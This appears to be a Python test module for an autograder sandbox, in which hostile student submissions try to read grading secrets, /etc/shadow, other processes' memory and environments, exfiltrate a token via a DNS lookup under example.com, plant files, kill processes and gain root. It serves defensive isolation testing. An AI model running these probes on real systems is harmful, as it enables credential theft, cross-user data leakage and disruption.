"""Submissions that look for what they must not know, or leave something for others; each cries LEAK where it can."""

# ruff: noqa: E501 - programs read best a line a line

from __future__ import annotations

from .course import FLOWN, after, instead
from .hostile import ALL, Hostile, cells

MASKED = [letter ^ 0x5A for letter in FLOWN.encode()]

TOOLS = f"""
import contextlib, ctypes, gc, glob, os, re, socket, sys, threading
places = PLACES
start = bytes(letter ^ 0x5A for letter in {MASKED})
pattern = re.compile(re.escape(start) + rb"[0-9a-f]{{24}}")
tries, found = [], []

def cry(what, got):
    found.append(what)
    shown = repr(got)[:60].replace("BIRD", "B I R D")
    print("LEAK", what, shown)

def look(what, function, *arguments):
    tries.append(what)
    try:
        got = function(*arguments)
    except BaseException:
        return None
    cry(what, got)
    return got

def search(what, data):
    data = data if isinstance(data, bytes) else str(data).encode(errors="replace")
    tries.append(what)
    for match in pattern.finditer(data):
        cry(what, match.group())

def contents(path):
    with open(path, "rb") as file:
        return file.read(100_000)

def end():
    print(f"nothing leaked in {{len(tries)}} tries" if tries and not found else "LEAK at the end")
"""


def leak(name: str, source: str, says: str = r"nothing leaked in [1-9]\d* tries") -> Hostile:
    """Right answers, then a cell that spies."""
    return cells("leaks", name, after(TOOLS, source + "\nend()\n"), ALL, says)


WALK = """
def below(folder):
    for where, folders, files in os.walk(folder):
        for name in files:
            look(os.path.join(where, name), contents, os.path.join(where, name))
    look(folder, os.listdir, folder)
"""

MEMORY = """
control = start + b"c" * 24
def scan(what):
    size = 2**20
    window = (ctypes.c_char * (size + 64))()
    spans = []
    with open("/proc/self/maps") as maps:
        for line in maps:
            fields = line.split()
            if "r" in fields[1] and fields[4] == "0" and not fields[-1].startswith("[v"):
                spans.append([int(text, 16) for text in fields[0].split("-")])
    seen = set()
    for first, last in spans:
        for at in range(first, last, size):
            length = min(size + 64, last - at)
            ctypes.memmove(window, at, length)
            seen.update(match.group() for match in pattern.finditer(memoryview(window)[:length]))
    print("the scan finds what is there:", control in seen, len(spans) > 10)
    for one in seen - {control}:
        cry(what, one)
    tries.append(what)
"""

LEAKS = (
    leak("reads_the_tests", WALK + "below(places['course'] + '/private tests')"),
    leak("reads_the_solutions", WALK + "below(places['course'] + '/solutions')"),
    leak("reads_the_config", "look('config', contents, places['course'] + '/grading_config.yaml')"),
    leak(
        "reads_the_gradebook",
        WALK + "look('db', contents, places['results'] + '/gradebook.db')\nbelow(places['results'])",
    ),
    leak("reads_other_submissions", WALK + "below(places['submissions'])"),
    leak("reads_the_instructors_folders", WALK + "below(places['secrets'])\nbelow('/root')\nbelow('/home')"),
    leak("reads_the_users", "for path in ('/etc/passwd', '/etc/shadow', '/etc/hostname'): look(path, contents, path)"),
    leak(
        "reads_the_judge",
        "import autograder\nfolder = os.path.dirname(autograder.__file__)\n"
        "for name in ('judge', 'expect', 'diagnosis', 'course', 'cases', 'gradebook', 'grading', 'student', 'cli/app'):\n"
        "    look(name, contents, f'{folder}/{name}.py')\n"
        "    look('import ' + name, __import__, 'autograder.' + name.replace('/', '.'))",
    ),
    leak(
        "reads_its_environment",
        "search('environment', os.environ)\nsearch('getenv', [os.getenv(name) for name in ('GRADER_TOKEN', 'TMPDIR', 'PWD')])\n"
        "with contextlib.suppress(OSError): search('environ', contents('/proc/self/environ'))",
    ),
    leak("reads_its_command_line", "search('cmdline', contents('/proc/self/cmdline'))\nsearch('argv', sys.argv)"),
    leak(
        "reads_other_processes",
        "for pid in {1, os.getppid(), *range(max(2, os.getpid() - 50), os.getpid())}:\n"
        "    for name in ('mem', 'environ', 'maps', 'auxv', 'stack', 'cmdline', 'status'):\n"
        "        look(f'{pid}/{name}', contents, f'/proc/{pid}/{name}')\n"
        "    for name in ('root', 'cwd', 'exe', 'fd'):\n        look(f'{pid}/{name}', os.listdir, f'/proc/{pid}/{name}/')\n"
        "look('all', os.listdir, '/proc')",
    ),
    leak(
        "reads_its_descriptors",
        "for number in range(3, 200):\n"
        "    with contextlib.suppress(OSError):\n        os.set_blocking(number, False)\n"
        "        search(number, os.pread(number, 9_999, 0))\n"
        "    look(number, os.listdir, number)\n"
        "    with contextlib.suppress(OSError):\n"
        "        name = os.readlink(f'/proc/self/fd/{number}')\n"
        "        if name.startswith('/') and not name.startswith('/proc'): cry(number, name)",
    ),
    leak(
        "walks_the_whole_file_system",
        "for top in ('/srv', '/opt', '/mnt', '/media', '/var', '/run', '/boot', '/etc', '/tmp', '/dev/shm'):\n"
        "    for where, _, files in os.walk(top):\n"
        "        for name in files:\n"
        "            with contextlib.suppress(OSError):\n"
        "                search(where + '/' + name, contents(where + '/' + name))\n"
        "look('/', os.listdir, '/')",
    ),
    cells(
        "leaks",
        "searches_its_memory",
        instead(
            TOOLS,
            MEMORY
            + "scan('in a cell')\ndef add(a, b):\n    if isinstance(a, str): scan('in a call'); end()\n    return 0\n",
        ),
        ("q2", "q3"),
        r"(?s)(the scan finds what is there: True True.*){2}nothing leaked in [1-9]\d* tries",
    ),
    cells(
        "leaks",
        "searches_the_garbage_collector",
        instead(
            TOOLS,
            "def add(a, b):\n    for one in gc.get_objects():\n"
            "        for part in gc.get_referents(one):\n"
            "            if type(part) in (str, bytes): search('collector', part)\n"
            "    if isinstance(a, str): end()\n    return 0\n",
        ),
        ("q2", "q3"),
        r"nothing leaked in [1-9]\d* tries",
    ),
    cells(
        "leaks",
        "searches_the_stack",
        instead(
            TOOLS,
            "def add(a, b):\n    frame = sys._getframe()\n    while frame:\n"
            "        for name, value in {**frame.f_locals, **frame.f_globals}.items():\n"
            "            if name in ('expected', 'whole', 'student', 'suite', 'seed'): cry(name, value)\n"
            "            if frame.f_code is not add.__code__: search(name, repr(value)[:10_000])\n"
            "        frame = frame.f_back\n    if isinstance(a, str): end()\n    return 0\n",
        ),
        ("q2", "q3"),
        r"nothing leaked in [1-9]\d* tries",
    ),
    leak(
        "connects_by_tcp",
        "for host in ('127.0.0.1', '::1'): look(host, socket.create_connection, (host, int(places['tcp'])), 1)",
    ),
    leak(
        "sends_by_udp",
        "def send():\n    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:\n"
        "        return udp.sendto(b'answers?', ('127.0.0.1', int(places['tcp'])))\nlook('udp', send)",
    ),
    leak(
        "connects_by_unix_socket",
        "def connect(address):\n    unix = socket.socket(socket.AF_UNIX)\n    unix.connect(address)\n    return unix\n"
        "look('unix', connect, places['unix'])\nlook('abstract', connect, chr(0) + places['abstract'])",
    ),
    leak(
        "fetches_a_page",
        "import urllib.request\nlook('page', urllib.request.urlopen, f\"http://127.0.0.1:{places['tcp']}/\", None, 1)",
    ),
    leak(
        "resolves_a_name",
        "look('name', socket.getaddrinfo, places['token'] + '.example.com', 80)\nlook('host', socket.gethostbyname, 'localhost.localdomain')",
    ),
    leak(
        "leaves_files_everywhere",
        "for folder in ('/dev/shm', '/tmp', '/var/tmp', '/dev', '/run', '/', places['tmp'], places['results'], '..', '/box',\n"
        "               os.path.expanduser('~root'), os.path.dirname(os.__file__), sys.prefix, places['submissions']):\n"
        "    look(folder, open, f\"{folder}/{places['token']}\", 'w')\n"
        "    look(folder, os.symlink, '/', f\"{folder}/{places['token']}-link\")",
    ),
    leak(
        "leaves_shared_memory",
        "from multiprocessing import shared_memory\nlook('shm', lambda: shared_memory.SharedMemory(places['token'], True, 99))\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "for name, arguments in (('shmget', (0x6B72, 4096, 0o1666)), ('semget', (0x6B72, 1, 0o1666)), ('msgget', (0x6B72, 0o1666))):\n"
        "    tries.append(name)\n"
        "    if getattr(libc, name)(*arguments) >= 0: cry(name, 1)",
    ),
    leak(
        "changes_python_for_the_next_one",
        "import numpy\nfor module in (os, re, numpy, socket):\n"
        "    look(module.__name__, open, module.__file__, 'a')\n"
        "    look('beside ' + module.__name__, open, module.__file__ + '.new', 'w')\n"
        "look('own', open, sys.modules['autograder'].__file__, 'a')",
    ),
    cells(
        "leaks",
        "leaves_a_note_for_the_next_one",
        after(
            TOOLS,
            "import tempfile\nfor folder in ('.', '~', tempfile.gettempdir(), os.environ['TMPDIR']):\n"
            "    with open(os.path.join(os.path.expanduser(folder), 'note-for-the-next-one'), 'w') as note:\n"
            "        note.write(places['token'])\nprint('left a note')\n",
        ),
        ALL,
        r"left a note",
    ),
    leak(
        "looks_for_the_note_of_another",
        "import tempfile\nfor folder in ('.', '..', '~', tempfile.gettempdir(), os.environ['TMPDIR'], '../*', '/tmp', '/box/*'):\n"
        "    tries.append(folder)\n"
        "    for path in glob.glob(os.path.join(os.path.expanduser(folder), 'note-*')): cry(folder, path)",
    ),
    leak(
        "kills_everybody",
        "for pid in (-1, 1, os.getppid(), -os.getppid(), *range(max(2, os.getpid() - 20), os.getpid())):\n"
        "    look(pid, os.kill, pid, 9)",
    ),
    leak(
        "makes_itself_somebody_else",
        "for name, arguments in (('setuid', (0,)), ('setgid', (0,)), ('setgroups', ([0],)), ('chroot', ('.',)),\n"
        "                        ('unshare', (0x10000000,)), ('memfd_create', ('x',)), ('pidfd_open', (os.getppid(),))):\n"
        "    look(name, getattr(os, name, None), *arguments)\n"
        "libc = ctypes.CDLL(None)\n"
        "for name, arguments in (('ptrace', (16, os.getppid(), 0, 0)), ('mount', (b'x', b'.', b'tmpfs', 0, 0))):\n"
        "    tries.append(name)\n"
        "    if getattr(libc, name)(*arguments) >= 0: cry(name, 1)",
    ),
    leak(
        "links_to_what_it_may_not_read",
        "for number, target in enumerate((places['course'] + '/grading_config.yaml', places['results'], places['submissions'])):\n"
        "    os.symlink(target, f'link{number}')\n    look(target, contents, f'link{number}')\n"
        "    look(target, os.listdir, f'link{number}')\n    look(target, os.link, target, f'hard{number}')",
    ),
)
